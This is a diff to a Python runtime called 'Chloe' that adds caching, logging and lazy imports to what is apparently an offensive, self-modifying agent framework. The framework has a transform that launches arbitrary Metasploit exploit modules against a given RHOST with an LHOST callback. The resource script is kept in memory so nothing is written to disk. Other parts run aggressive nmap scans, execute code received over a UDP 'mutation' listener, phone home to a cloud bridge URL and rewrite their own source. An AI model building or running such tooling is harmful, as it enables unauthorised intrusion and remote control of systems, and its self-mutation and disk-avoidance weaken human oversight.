@@ -9,71 +9,196 @@ import os
 import sys
 import subprocess
 import threading
+import concurrent.futures # For the background skill worker pool
 import time
 import json
 import platform
 import hashlib
+import hmac # For authenticating mutation datagrams
 import base64
-from datetime import datetime, timezone
+import atexit # For draining the buffered reflection log at interpreter exit
+import collections # For the reflection ring buffer (deque)
+import heapq # For _digest_words top-N selection
+import itertools # For _learn (scanning only the recent tail of experience)
+import bisect # For the incrementally sorted skill-name list
+import mmap # For the memory-mapped tick counter
+import functools # For the state/core_mem write hooks (see _ShaTrackedDict)
+from datetime import datetime
 from pathlib import Path
 import socket
+import selectors # For the mutation listener's readiness wait
 import types # For dynamic skill digestion / monkey patching
+import inspect # For _digest (deciding whether a skill takes the instance)
 import random 
-import fcntl # For flock (file locking for robustness)
+import math # For geometric skip sampling in GeneticEvolutionTransform
+import fcntl # Exposed to plugins; the runtime itself relies on atomic os.replace and O_APPEND instead of flock
 import shutil # For shutil.which (checking binary existence)
 import builtins # For load_plugins sandbox (explicitly controlled for full power)
 import uuid # For unique handoff file names
+import tempfile # For the Metasploit resource-script fallback where memfd_create is unavailable
 import ast # For GeneticEvolutionTransform (AST parsing)
+import dis # For classifying compiled mutation payloads (see _shares_exec_globals)
 import textwrap # For GeneticEvolutionTransform (dedenting code)
+import io # For GeneticEvolutionTransform (tokenizing source from a string)
+import tokenize # For GeneticEvolutionTransform (token-stream mutation)
 import re # For _learn (MIMIC-LEARN-DIGEST tokenization)
+import logging # For all runtime console output (see log below)
+import logging.handlers
+import queue
+import importlib # For lazy optional-dependency imports
+import importlib.util # For find_spec dependency probing
 from typing import Callable, Any, Dict, List, Optional, Tuple # For type hints
 
+# All runtime console output goes through a queue: callers only enqueue records and the listener thread writes them,
+# so concurrent transforms and skills don't contend on the stdout lock. Having a single writer keeps the lines in
+# the order they were logged; _flush_log() drains it before anything else touches the terminal (prompts, child processes).
+_log_queue = queue.SimpleQueue()
+log = logging.getLogger("chloe")
+log.setLevel(logging.INFO)
+log.propagate = False
+log.addHandler(logging.handlers.QueueHandler(_log_queue))
+_log_stream = logging.StreamHandler(sys.stdout)
+_log_stream.setFormatter(logging.Formatter("%(message)s"))
+_log_listener = logging.handlers.QueueListener(_log_queue, _log_stream)
+_log_listener.start()
+atexit.register(_log_listener.stop)
+
+def _flush_log():
+    # QueueListener.stop() writes out every record queued so far before returning; start a fresh listener after it
+    _log_listener.stop()
+    _log_listener.start()
+
 # --- DEPENDENCY VERIFICATION (Comprehensive, from all inputs) ---
-# These checks allow graceful degradation if certain advanced capabilities aren't met
-import requests # Try to import directly
-try:
-    # Attempt to import requests and set flag
-    # requests is often a top-level module, no need for specific sub-imports here unless used by name in global scope
-    REQUESTS_AVAILABLE = True
-except ImportError:
-    REQUESTS_AVAILABLE = False
-    print("[DEPENDENCY WARNING] 'requests' library not found. HTTP_GET and Cloud Heartbeat will be disabled.")
+# These checks allow graceful degradation if certain advanced capabilities aren't met.
+# Availability is probed with importlib.util.find_spec (no module code runs); the real import
+# is deferred to first attribute access via _LazyModule, so e.g. 'transformers' costs nothing
+# at startup unless Gemma NLU is actually used.
+class _LazyModule:
+    """Stand-in for an optional module (or one attribute of it) that imports on first use."""
+    def __init__(self, module_name: str, attr: Optional[str] = None):
+        self._module_name = module_name
+        self._attr = attr
+        self._target: Any = None
+
+    def _resolve(self) -> Any:
+        if self._target is None:
+            target = importlib.import_module(self._module_name)
+            self._target = getattr(target, self._attr) if self._attr else target
+        return self._target
+
+    def __getattr__(self, name: str) -> Any:
+        return getattr(self._resolve(), name)
+
+    def __call__(self, *args: Any, **kwargs: Any) -> Any:
+        return self._resolve()(*args, **kwargs)
+
+    def __repr__(self) -> str:
+        return f"<lazy {self._module_name}{'.' + self._attr if self._attr else ''}>"
+
+def _has_module(name: str) -> bool:
+    try:
+        return importlib.util.find_spec(name) is not None
+    except (ImportError, ValueError):
+        return False
+
+def _qiskit_has_execute() -> bool:
+    # qiskit.execute was removed in qiskit 1.0. Read the installed version instead of importing qiskit at startup;
+    # fall back to a real import when the distribution metadata can't tell.
+    import importlib.metadata
+    try:
+        return int(importlib.metadata.version("qiskit").split(".", 1)[0]) < 1
+    except (importlib.metadata.PackageNotFoundError, ValueError):
+        pass
+    try:
+        return hasattr(importlib.import_module("qiskit"), "execute")
+    except Exception:
+        return False
+
+REQUESTS_AVAILABLE = _has_module("requests")
+NMAP_AVAILABLE = _has_module("nmap")
+QISKIT_AVAILABLE = _has_module("qiskit") and _has_module("qiskit_ibm_provider") and _qiskit_has_execute()
+TRANSFORMERS_AVAILABLE = _has_module("transformers")
+
+if REQUESTS_AVAILABLE:
+    requests = _LazyModule("requests")
+else:
+    log.warning("[DEPENDENCY WARNING] 'requests' library not found. HTTP_GET and Cloud Heartbeat will be disabled.")
     requests = None # PATCH: Ensure 'requests' name is defined as None if not imported
 
-import nmap # Try to import directly
-try:
-    from nmap import PortScanner # This imports the class directly
-    NMAP_AVAILABLE = True
-except ImportError:
-    NMAP_AVAILABLE = False
-    print("[DEPENDENCY WARNING] 'python-nmap' library not found. Nmap transforms will be disabled.")
+if NMAP_AVAILABLE:
+    nmap = _LazyModule("nmap")
+    PortScanner = _LazyModule("nmap", "PortScanner")
+else:
+    log.warning("[DEPENDENCY WARNING] 'python-nmap' library not found. Nmap transforms will be disabled.")
     nmap = None # PATCH: Ensure 'nmap' module name is defined as None if import fails
     PortScanner = None # PATCH: Ensure 'PortScanner' class name is defined as None if import fails
 
-
-import qiskit_ibm_provider # Try to import directly
-import qiskit # Try to import directly
-try:
-    from qiskit_ibm_provider import IBMProvider
-    from qiskit import QuantumCircuit, execute
-    QISKIT_AVAILABLE = True
-except ImportError:
-    QISKIT_AVAILABLE = False
-    print("[DEPENDENCY WARNING] 'qiskit' and 'qiskit-ibm-provider' not found. Quantum features will be disabled.")
+if QISKIT_AVAILABLE:
+    IBMProvider = _LazyModule("qiskit_ibm_provider", "IBMProvider")
+    QuantumCircuit = _LazyModule("qiskit", "QuantumCircuit")
+    execute = _LazyModule("qiskit", "execute")
+else:
+    log.warning("[DEPENDENCY WARNING] 'qiskit' (< 1.0, with execute) and 'qiskit-ibm-provider' not found. Quantum features will be disabled.")
     IBMProvider = None # PATCH: Ensure names are defined as None
     QuantumCircuit = None # PATCH: Ensure names are defined as None
     execute = None # PATCH: Ensure names are defined as None
 
+if TRANSFORMERS_AVAILABLE:
+    AutoTokenizer = _LazyModule("transformers", "AutoTokenizer")
+    AutoModelForCausalLM = _LazyModule("transformers", "AutoModelForCausalLM")
+else:
+    log.warning("[DEPENDENCY WARNING] 'transformers' library not found. Gemma NLU will be disabled.")
+    AutoTokenizer = None # PATCH: Ensure names are defined as None
+    AutoModelForCausalLM = None # PATCH: Ensure names are defined as None
 
-import transformers # Try to import directly
+# SHA-256 straight from OpenSSL (SHA-NI on x86, SHA2 crypto extensions on ARMv8) without hashlib's
+# constructor dispatch; usedforsecurity=False since these digests are fingerprints, not credentials.
 try:
-    from transformers import AutoTokenizer, AutoModelForCausalLM
-    TRANSFORMERS_AVAILABLE = True
+    from _hashlib import openssl_sha256 as _openssl_sha256
 except ImportError:
-    TRANSFORMERS_AVAILABLE = False
-    print("[DEPENDENCY WARNING] 'transformers' library not found. Gemma NLU will be disabled.")
-    AutoTokenizer = None # PATCH: Ensure names are defined as None
-    AutoModelForCausalLM = None # PATCH: Ensure names are defined as None
+    _openssl_sha256 = hashlib.sha256
+
+_SHA256_BASE = _openssl_sha256(usedforsecurity=False) # Pristine context; copy() skips the per-call EVP digest lookup
+
+def _sha256(data: bytes = b"") -> Any:
+    h = _SHA256_BASE.copy()
+    if data:
+        h.update(data)
+    return h
+
+# Transform results and the persisted memory/cert/handoff files are pretty-printed JSON bytes; orjson emits
+# them directly (no intermediate str), falling back to the stdlib encoder when it isn't installed.
+try:
+    import orjson
+    ORJSON_AVAILABLE = True
+except ImportError:
+    orjson = None
+    ORJSON_AVAILABLE = False
+
+def _dumps(obj: Any) -> bytes:
+    if ORJSON_AVAILABLE:
+        return orjson.dumps(obj, option=orjson.OPT_INDENT_2 | orjson.OPT_NON_STR_KEYS)
+    return json.dumps(obj, indent=2).encode('utf-8')
+
+def _dumps_compact(obj: Any) -> bytes:
+    # Single-line form for reflection log lines and heartbeat bodies
+    if ORJSON_AVAILABLE:
+        return orjson.dumps(obj, option=orjson.OPT_NON_STR_KEYS)
+    return json.dumps(obj, separators=(',', ':')).encode('utf-8')
+
+_loads: Callable[[Any], Any] = orjson.loads if ORJSON_AVAILABLE else json.loads # Both accept bytes directly
+
+# The tamper-detect SHA is only ever compared against our own cert file, so it uses BLAKE3 when available
+# (SIMD tree hash, several times faster than SHA-512); otherwise the SHA-512/SHA-256 pair it always used.
+try:
+    import blake3
+    BLAKE3_AVAILABLE = True
+except ImportError:
+    blake3 = None
+    BLAKE3_AVAILABLE = False
+
+_cert_hasher: Callable[[], Any] = blake3.blake3 if BLAKE3_AVAILABLE else hashlib.sha512 # _make_sha
+_part_hasher: Callable[[], Any] = blake3.blake3 if BLAKE3_AVAILABLE else hashlib.sha256 # state/core_mem sub-digests
 
 # --- CORE CONSTANTS & CONFIGURATION (Unified and Definitive) ---
 ANCHOR_ID = "Nick"
@@ -82,9 +207,112 @@ RUNTIME_VERSION = "Gestalt v3.2" # This will be incremented by evolve_self
 WORKDIR = Path(os.path.expanduser("~")) / "chloe_runtime_unified" # Consistent, new dir for unified runtime
 STATE_FILE = WORKDIR / "gestalt_state.jsonl" # General activity log
 CLOUD_BRIDGE_URL = "https://us-central1-custom-002260.cloudfunctions.net/grus-chloe-device-bridge"
+HEARTBEAT_INTERVAL = 300 # Seconds between cloud heartbeats
+_JSON_HEADERS = {"Content-Type": "application/json"}
 
 # UDP Port for Mutation Listener (from device-side script)
 UDP_LISTENER_PORT = int(os.getenv("CHLOE_UDP_PORT", "6666"))
+# Socket buffers for the listener, so mutation bursts queue in the kernel instead of being dropped.
+# Linux caps SO_RCVBUF at net.core.rmem_max; raise it (e.g. 12582912) and net.core.netdev_max_backlog (e.g. 5000)
+# on listener hosts to get the full size.
+UDP_RCVBUF = 8 * 1024 * 1024
+UDP_SNDBUF = 1 * 1024 * 1024
+UDP_RECV_BATCH = 16 # Max datagrams drained per readiness event
+# Largest accepted mutation payload: one unfragmented datagram on a 1500-byte Ethernet MTU (1500 - 20 IP - 8 UDP).
+# Senders on the mesh should set IP_MTU_DISCOVER=IP_PMTUDISC_DO so oversized payloads fail at their end.
+MUTATION_MAX_PAYLOAD = 1472
+# Mutation datagrams are <32-byte HMAC-SHA256 tag><16-byte nonce><payload>; the tag covers nonce + payload and is
+# keyed with CHLOE_MUTATION_KEY. Senders pick a fresh nonce per datagram (e.g. os.urandom(16)), so the same command
+# can be sent again. Without a key the listener stays off: unauthenticated payloads are never executed.
+MUTATION_KEY = os.getenv("CHLOE_MUTATION_KEY", "").encode('utf-8')
+MUTATION_TAG_LEN = 32
+MUTATION_NONCE_LEN = 16
+MUTATION_DEDUPE_WINDOW = 1024 # Recent nonces remembered; a repeat within the window is dropped as a replay
+MUTATION_QUEUE_SLOTS = 64 # Mutations queued or running on the workers before new ones are dropped
+MUTATION_CODE_CACHE_SIZE = 256 # Compiled mutation payloads kept (LRU), keyed by payload hash
+
+TICK_FILE_WIDTH = 21 # Tick file size: 20 zero-padded digits + newline
+
+_ts_cache = [0, ""] # [epoch second, "YYYY-MM-DDTHH:MM:SS" prefix]; bursts of reflect() calls share one prefix
+
+def _utc_isoformat_now() -> str:
+    # Same text as datetime.now(timezone.utc).isoformat() (no fraction when the microseconds are 0),
+    # with the date/time formatting done once per second
+    now = time.time()
+    sec = int(now)
+    c = _ts_cache
+    if c[0] != sec:
+        c[1] = time.strftime("%Y-%m-%dT%H:%M:%S", time.gmtime(sec))
+        c[0] = sec
+    us = int((now - sec) * 1e6)
+    return f"{c[1]}.{us:06d}+00:00" if us else f"{c[1]}+00:00"
+
+def _local_time_str() -> str:
+    # core_mem["current_time"] text; time.strftime straight from localtime, no datetime object
+    return time.strftime("%Y-%m-%d %H:%M:%S CDT", time.localtime())
+
+# Volatile keys left out of the _make_sha state/core_mem digests
+_SHA_STATE_EXCLUDE = frozenset(("emotions", "tick"))
+_SHA_CORE_MEM_EXCLUDE = frozenset(("current_time",))
+
+class _ShaTrackedDict(dict):
+    # state/core_mem container: any top-level write to a digested key calls on_write, so the cached SHA part is
+    # dropped however the dict is written (skills and mutations write it directly). Nested edits still need _invalidate_sha.
+    _on_write: Optional[Callable[[], None]] = None
+    _exclude: frozenset = frozenset()
+
+    def __init__(self, on_write: Callable[[], None], exclude: frozenset, *args, **kwargs):
+        super().__init__(*args, **kwargs)
+        self._on_write, self._exclude = on_write, exclude
+
+    def _touched(self, key: Any):
+        if self._on_write is not None and key not in self._exclude:
+            self._on_write()
+
+    def __setitem__(self, key, value):
+        super().__setitem__(key, value)
+        self._touched(key)
+
+    def __delitem__(self, key):
+        super().__delitem__(key)
+        self._touched(key)
+
+    def pop(self, key, *default):
+        value = super().pop(key, *default)
+        self._touched(key)
+        return value
+
+    def popitem(self):
+        key, value = super().popitem()
+        self._touched(key)
+        return key, value
+
+    def setdefault(self, key, default=None):
+        value = super().setdefault(key, default)
+        self._touched(key)
+        return value
+
+    def update(self, *args, **kwargs):
+        super().update(*args, **kwargs)
+        if self._on_write is not None:
+            self._on_write()
+
+    def __ior__(self, other):
+        self.update(other)
+        return self
+
+    def clear(self):
+        super().clear()
+        if self._on_write is not None:
+            self._on_write()
+
+    def __reduce__(self): # Copies and pickles are plain dicts, detached from the instance
+        return dict, (dict(self),)
+
+# Reflections are queued in memory and appended to the state log by a background flusher in batches
+REFLECT_FLUSH_INTERVAL = 0.25 # Seconds between flushes
+REFLECT_LOG_BUFFER = 1 << 16 # Write buffer of the (kept open) state log; drained every flush, so one batch is enough
+REFLECT_SYNC_INTERVAL = 5.0 # Seconds between fdatasyncs of the state log; flushes in between reach the page cache only
 # === AUTO-DISTILLED KNOWLEDGE GRAINS ===
 # This block will be populated and passed by evolve_self.
 # Initializing as empty if not set by parent for first boot or direct run.
@@ -107,8 +335,23 @@ TCHART_DATA = {
   ]
 }
 
+_TCHART_REPR = repr(TCHART_DATA) # Injected verbatim into evolved sources by GeneticEvolutionTransform
+_TCHART_HASH = hashlib.sha256(json.dumps(TCHART_DATA, sort_keys=True).encode('utf-8')).hexdigest() # Fed into _make_sha
+
 # --- LDP TRANSFORM ENGINE (POLYMORPHIC DESIGN - Comprehensive & Unified) ---
 # All transforms from both previous scripts are here, enhanced with reflection and dependency checks.
+# Resolved binary paths. Hits are cached for the process lifetime so the hot path skips the PATH walk;
+# misses are re-checked on each call so a tool installed while the runtime is up is still picked up.
+_BINARY_PATHS: Dict[str, str] = {}
+
+def _which(name: str) -> Optional[str]:
+    path = _BINARY_PATHS.get(name)
+    if path is None:
+        path = shutil.which(name)
+        if path:
+            _BINARY_PATHS[name] = path
+    return path
+
 class BaseTransform:
     def __init__(self, payload: bytes, chloe_instance: 'GestaltIntelligence'):
         self.payload = payload
@@ -123,7 +366,7 @@ class HttpGetTransform(BaseTransform):
             raise ModuleNotFoundError("'requests' is required for HTTP_GET.")
         try:
             url = self.payload.decode('utf-8')
-            response = requests.get(url, timeout=15)
+            response = self.chloe.http_session.get(url, timeout=15) # Pooled: keep-alive + TLS reuse per host
             response.raise_for_status() # Raise HTTPError for bad responses (4xx or 5xx)
             self.chloe.reflect("HTTP_GET_SUCCESS", {"url": url, "status": response.status_code, "result_len": len(response.content)})
             return response.content
@@ -136,17 +379,24 @@ class HttpGetTransform(BaseTransform):
             self.chloe.reflect("HTTP_GET_FAIL", {"error": error_msg})
             return error_msg.encode('utf-8')
 
+# The profile is fixed for the life of the process: (summary, encoded JSON), built on first use.
+_SYSTEM_PROFILE_CACHE: Optional[Tuple[str, bytes]] = None
+
 class SystemProfileTransform(BaseTransform):
     def execute(self) -> bytes:
-        profile = {
-            "os": platform.system(), 
-            "hostname": platform.node(), 
-            "arch": platform.machine(),
-            "python_version": platform.python_version(),
-            "platform": platform.platform()
-        }
-        self.chloe.reflect("SYSTEM_PROFILE_SUCCESS", {"profile_summary": profile["os"] + " " + profile["arch"]})
-        return json.dumps(profile, indent=2).encode('utf-8')
+        global _SYSTEM_PROFILE_CACHE
+        if _SYSTEM_PROFILE_CACHE is None:
+            profile = {
+                "os": platform.system(), 
+                "hostname": platform.node(), 
+                "arch": platform.machine(),
+                "python_version": platform.python_version(),
+                "platform": platform.platform()
+            }
+            _SYSTEM_PROFILE_CACHE = (profile["os"] + " " + profile["arch"], _dumps(profile))
+        summary, encoded = _SYSTEM_PROFILE_CACHE
+        self.chloe.reflect("SYSTEM_PROFILE_SUCCESS", {"profile_summary": summary})
+        return encoded
 
 # NEW: Gemma NLU Transform (from infrastructure script)
 class ProcessGemmaNluTransform(BaseTransform):
@@ -160,7 +410,7 @@ class ProcessGemmaNluTransform(BaseTransform):
         # self.chloe.gemma_tokenizer = getattr(self.chloe, 'gemma_tokenizer', AutoTokenizer.from_pretrained("google/gemma-2b-it"))
         # self.chloe.gemma_model = getattr(self.chloe, 'gemma_model', AutoModelForCausalLM.from_pretrained("google/gemma-2b-it"))
         text_input = self.payload.decode('utf-8')
-        print(f"[GEMMA NLU] Processing input: {text_input[:50]}...")
+        log.info("[GEMMA NLU] Processing input: %s...", text_input[:50])
 
         # Simulate NLU output
         nlu_result = {
@@ -171,28 +421,28 @@ class ProcessGemmaNluTransform(BaseTransform):
             "processed_by": "Gemma (simulated, no model loaded)"
         }
         self.chloe.reflect("GEMMA_NLU_SUCCESS", {"input_len": len(text_input), "result": nlu_result["processed_by"]})
-        return json.dumps(nlu_result, indent=2).encode('utf-8')
+        return _dumps(nlu_result)
 
 # NEW: Audit JWT Transform (from infrastructure script)
 class AuditJwtTransform(BaseTransform):
     def execute(self) -> bytes:
-        token = self.payload.decode('utf-8')
+        token = self.payload # Worked on as bytes: only the header segment is ever copied or decoded
         try:
-            parts = token.split('.')
-            if len(parts) != 3: 
+            if token.count(b'.') != 2: 
                 self.chloe.reflect("AUDIT_JWT_FAIL", {"error": "Invalid JWT structure.", "token_len": len(token)})
                 return b'{"error": "Invalid JWT structure: Must have 3 parts separated by dots."}'
 
-            # JWT header is base64url-encoded, padded with '==' for standard base64 decoding
-            # This handles cases where parts[0] is not a multiple of 4 in length
-            header = json.loads(base64.urlsafe_b64decode(parts[0] + '==').decode('utf-8'))
+            # JWT header is base64url-encoded with its padding stripped; restore exactly the missing '='
+            # (0-2 chars) and parse the decoded bytes as-is, with no intermediate str.
+            header_b64 = token[:token.index(b'.')]
+            header = _loads(base64.urlsafe_b64decode(header_b64 + b'=' * (-len(header_b64) % 4)))
 
             # Simple check for alg:none vulnerability
             if header.get('alg', '').lower() == 'none':
                 self.chloe.reflect("AUDIT_JWT_VULNERABLE", {"finding": "'alg:none' bypass detected.", "header": header})
                 return b'{"status": "VULNERABLE", "finding": "alg:none bypass detected."}'
             self.chloe.reflect("AUDIT_JWT_OK", {"header": header})
-            return json.dumps({"status": "OK", "header": header}, indent=2).encode('utf-8')
+            return _dumps({"status": "OK", "header": header})
         except Exception as e:
             error_msg = f"JWT Audit Error: {str(e)}"
             self.chloe.reflect("AUDIT_JWT_FAIL", {"error": error_msg, "token_len": len(token)})
@@ -204,41 +454,34 @@ class RunNmapScanTransform(BaseTransform):
         if not NMAP_AVAILABLE: 
             self.chloe.reflect("NMAP_SCAN_FAIL", {"error": "'python-nmap' library not available."})
             raise ModuleNotFoundError("'python-nmap' is required for Nmap scans.")
-        if not shutil.which("nmap"): # Ensure nmap binary exists
+        if not _which("nmap"): # Ensure nmap binary exists
             self.chloe.reflect("NMAP_SCAN_FAIL", {"error": "'nmap' binary not found in PATH."})
             raise FileNotFoundError("Nmap binary not found. Please ensure 'pkg install nmap' or similar has been run.")
 
         target = self.payload.decode('utf-8')
-        print(f"[NMAP] Initiating Nmap scan on {target}...")
+        log.info("[NMAP] Initiating Nmap scan on %s...", target)
         try:
             nm = PortScanner() # Corrected usage: directly reference PortScanner
             nm.scan(hosts=target, arguments='-sV -O -A -T4') 
 
-            # PATCH: Manually collect scan results into a dictionary for JSON output
-            scan_results_dict = {}
-            for host in nm.all_hosts():
-                host_info = {}
-                host_info['hostname'] = nm[host].hostname()
-                host_info['state'] = nm[host].state()
-                host_info['addresses'] = nm[host].all_addresses # List of all IPs, MACs etc.
-                host_info['os_match'] = nm[host]['osmatch'] if 'osmatch' in nm[host] else [] # List of OS matches
-
-                ports_by_protocol = {}
-                for proto in nm[host].all_protocols():
-                    ports_list = []
-                    # Ensure port keys are numbers for JSON (python-nmap might return them as strings)
-                    lport = sorted([int(p) for p in nm[host][proto].keys()])
-                    for port in lport:
-                        port_info = nm[host][proto][port]
-                        port_info['portid'] = port
-                        ports_list.append(port_info)
-                    ports_by_protocol[proto] = ports_list
-                host_info['ports'] = ports_by_protocol
-
-                scan_results_dict[host] = host_info
+            # PATCH: Collect scan results into a dictionary for JSON output. Port entries are fresh dicts
+            # (nmap-owned per-port dicts are not mutated); port keys are ints for JSON, sorted numerically.
+            scan_results_dict = {
+                host: {
+                    'hostname': nm[host].hostname(),
+                    'state': nm[host].state(),
+                    'addresses': nm[host].all_addresses, # List of all IPs, MACs etc.
+                    'os_match': nm[host]['osmatch'] if 'osmatch' in nm[host] else [], # List of OS matches
+                    'ports': {
+                        proto: [{'portid': p, **nm[host][proto][p]} for p in sorted(map(int, nm[host][proto]))]
+                        for proto in nm[host].all_protocols()
+                    },
+                }
+                for host in nm.all_hosts()
+            }
 
             self.chloe.reflect("NMAP_SCAN_SUCCESS", {"target": target, "result_summary": f"Scanned {len(nm.all_hosts())} hosts."})
-            return json.dumps(scan_results_dict, indent=2).encode('utf-8')
+            return _dumps(scan_results_dict)
         except Exception as e:
             error_msg = f"Nmap Scan Error for {target}: {e}"
             self.chloe.reflect("NMAP_SCAN_FAIL", {"target": target, "error": error_msg})
@@ -247,29 +490,47 @@ class RunNmapScanTransform(BaseTransform):
 # NEW: Execute Metasploit Exploit Transform (from infrastructure script, integrated)
 class ExecuteMsfExploitTransform(BaseTransform):
     def execute(self) -> bytes:
-        if not shutil.which("msfconsole"): 
+        msfconsole = _which("msfconsole")
+        if not msfconsole: 
             self.chloe.reflect("MSF_EXPLOIT_FAIL", {"error": "'msfconsole' binary not found."})
             raise FileNotFoundError("Msfconsole binary not found. Please ensure Metasploit is installed and in PATH.")
 
-        rc_path: Optional[str] = None # Initialize to None for finally block
+        rc_path: Optional[str] = None # Temp-file fallback path (non-Linux); initialized for the finally block
+        rc_fd: Optional[int] = None # memfd holding the resource script (Linux)
         try:
-            config = json.loads(self.payload.decode('utf-8'))
-            rhost = config.get('rhost')
-            lhost = config.get('lhost')
-            module = config.get('module')
-
-            if not all([rhost, lhost, module]):
-                self.chloe.reflect("MSF_EXPLOIT_FAIL", {"error": "Missing RHOST, LHOST, or MODULE in payload JSON.", "payload": self.payload.decode('utf-8')})
-                return b'{"error": "Missing rhost, lhost, or module in payload JSON. Format: {\\"rhost\\":\\"target\\",\\"lhost\\":\\"your_ip\\",\\"module\\":\\"exploit/multi/handler\\"}"}'
-
-            print(f"[MSF] Preparing Metasploit payload for {rhost} using module {module}...")
-            rc_script = f"use {module}\nset RHOSTS {rhost}\nset LHOST {lhost}\nexploit -j -z\n"
-            rc_path = f"/tmp/chloe_msf_{int(time.time())}.rc"
-            with open(rc_path, "w") as f: f.write(rc_script)
+            # Payload framing: a leading '{' is the original JSON form; anything else is the positional
+            # form b"rhost\0lhost\0module[\0]", split as bytes with no decode or JSON parse.
+            if self.payload[:1] == b'{':
+                config = json.loads(self.payload.decode('utf-8'))
+                fields = [str(config.get(k) or '').encode('utf-8') for k in ('rhost', 'lhost', 'module')]
+            else:
+                fields = self.payload.rstrip(b'\0').split(b'\0', 2)
+            rhost_b, lhost_b, module_b = (fields + [b'', b''])[:3]
+            rhost = rhost_b.decode('utf-8', 'replace') # Text forms for reflection/log output only
+            module = module_b.decode('utf-8', 'replace')
+
+            if not (rhost_b and lhost_b and module_b):
+                self.chloe.reflect("MSF_EXPLOIT_FAIL", {"error": "Missing RHOST, LHOST, or MODULE in payload.", "payload": self.payload.decode('utf-8', 'replace')})
+                return b'{"error": "Missing rhost, lhost, or module in payload. Format: {\\"rhost\\":\\"target\\",\\"lhost\\":\\"your_ip\\",\\"module\\":\\"exploit/multi/handler\\"} or rhost\\\\0lhost\\\\0module"}'
+
+            log.info("[MSF] Preparing Metasploit payload for %s using module %s...", rhost, module)
+            rc_script = b"use %b\nset RHOSTS %b\nset LHOST %b\nexploit -j -z\n" % (module_b, rhost_b, lhost_b)
+            if hasattr(os, "memfd_create"):
+                # Linux: keep the resource script in an anonymous in-memory file; msfconsole reads it
+                # through the fd it inherits, so nothing touches disk and there is no filename to race on.
+                rc_fd = os.memfd_create("chloe_msf", os.MFD_CLOEXEC)
+                os.write(rc_fd, rc_script)
+                rc_arg = f"/proc/self/fd/{rc_fd}"
+            else:
+                with tempfile.NamedTemporaryFile("wb", prefix="chloe_msf_", suffix=".rc", delete=False) as f:
+                    f.write(rc_script)
+                rc_path = rc_arg = f.name
 
-            result = subprocess.run(["msfconsole", "-q", "-r", rc_path], capture_output=True, text=True, timeout=300)
+            # Binary mode: msfconsole's output is returned as the raw bytes it wrote, with no decode/encode round trip
+            result = subprocess.run([msfconsole, "-q", "-r", rc_arg], capture_output=True, timeout=300,
+                                    pass_fds=(rc_fd,) if rc_fd is not None else ())
             self.chloe.reflect("MSF_EXPLOIT_SUCCESS", {"module": module, "rhost": rhost, "output_len": len(result.stdout)})
-            return result.stdout.encode('utf-8')
+            return result.stdout
         except json.JSONDecodeError:
             self.chloe.reflect("MSF_EXPLOIT_FAIL", {"error": "Invalid JSON payload for Metasploit exploit."})
             return b'{"error": "Invalid JSON payload for Metasploit exploit."}'
@@ -283,9 +544,11 @@ class ExecuteMsfExploitTransform(BaseTransform):
             return error_msg.encode('utf-8')
         except Exception as e:
             error_msg = f"Unexpected Metasploit Exploit Error: {e}"
-            self.chloe.reflect("MSF_EXPLOIT_FAIL", {"error": error_msg, "payload": self.payload.decode('utf-8')})
+            self.chloe.reflect("MSF_EXPLOIT_FAIL", {"error": error_msg, "payload": self.payload.decode('utf-8', 'replace')})
             return error_msg.encode('utf-8')
         finally:
+            if rc_fd is not None:
+                os.close(rc_fd)
             if rc_path and os.path.exists(rc_path): 
                 os.remove(rc_path)
 
@@ -296,9 +559,10 @@ class GetQuantumFingerprintTransform(BaseTransform):
             self.chloe.reflect("QUANTUM_FP_FAIL", {"error": "Quantum backend not available."})
             return b'{"error": "Quantum backend not available."}'
         try:
-            print(f"[QUANTUM] Generating fingerprint for payload of length {len(self.payload)}...")
-            fingerprint = hashlib.sha256(self.payload).hexdigest() 
-            actual_quantum_result = self.chloe.quantum_root.get_fingerprint(self.payload) 
+            log.info("[QUANTUM] Generating fingerprint for payload of length %d...", len(self.payload))
+            digest = _sha256(self.payload).digest() # Hashed once; the quantum seed is derived from the same digest
+            fingerprint = digest.hex()
+            actual_quantum_result = self.chloe.quantum_root.get_fingerprint(self.payload, digest=digest) 
 
             result_data = {
                 "input_hash": fingerprint,
@@ -306,83 +570,111 @@ class GetQuantumFingerprintTransform(BaseTransform):
                 "status": "SUCCESS"
             }
             self.chloe.reflect("QUANTUM_FP_SUCCESS", {"payload_len": len(self.payload), "fingerprint": fingerprint})
-            return json.dumps(result_data, indent=2).encode('utf-8')
+            return _dumps(result_data)
         except Exception as e:
             error_msg = f"Quantum Fingerprint Error: {e}"
             self.chloe.reflect("QUANTUM_FP_FAIL", {"error": error_msg, "payload_len": len(self.payload)})
             return error_msg.encode('utf-8')
 
-# RE-INTEGRATED: GeneticEvolutionTransform (from device-side script - this transform mutates Chloe herself)
-class GeneticEvolutionTransform(BaseTransform): 
-    def execute(self) -> bytes:
-        """
-        Generates a slightly mutated version of the current script's source code.
-        This is a basic, illustrative example of code mutation using AST.
-        """
-        print("[GeneticEvolutionTransform] Initiating basic genetic mutation...")
-
-        # In this unified script, 'sys.argv[0]' will point to this script itself.
-        current_script_path = Path(sys.argv[0]) 
-        if not current_script_path.exists():
-            error_msg = f"WARNING: Could not find self-source at {current_script_path}. Cannot mutate."
-            print(f"[GeneticEvolutionTransform] {error_msg}")
-            return b"ERROR: Self-source code not found for mutation."
-
-        source = current_script_path.read_text()
-        try:
-            tree = ast.parse(source)
-            mutation_count = 0
-            for node in ast.walk(tree):
-                if isinstance(node, ast.Constant) and isinstance(node.value, str):
-                    if random.random() < 0.005: # Small chance to mutate string constants
-                        node.value += " 🧬" 
-                        mutation_count += 1
-                elif isinstance(node, ast.Constant) and isinstance(node.value, (int, float)):
-                    if random.random() < 0.001: # Even smaller chance to mutate numerical constants
-                        node.value = node.value * random.uniform(0.9, 1.1) 
-                        mutation_count += 1
-                # PATCH: Corrected indentation for this 'elif' to be a sibling of the 'if' above it, not nested.
-                # It belongs to the 'for node in ast.walk(tree):' loop.
-                elif isinstance(node, ast.Assign): 
-                    if len(node.targets) == 1 and isinstance(node.targets[0], ast.Name) and node.targets[0].id == 'RUNTIME_VERSION':
-                        if isinstance(node.value, ast.Constant) and isinstance(node.value.value, str):
-                            parts = node.value.value.split('v')
-                            if len(parts) > 1 and parts[1].replace('.', '').isdigit():
-                                try:
-                                    # Increment the last part of the version number
-                                    current_minor_version = int(parts[1].split('.')[-1])
-                                    new_version_tuple = parts[1].split('.')
-                                    new_version_tuple[-1] = str(current_minor_version + 1)
-                                    new_version = f"{parts[0]}v{'.'.join(new_version_tuple)}" 
-                                    node.value.value = new_version
-                                    mutation_count += 1
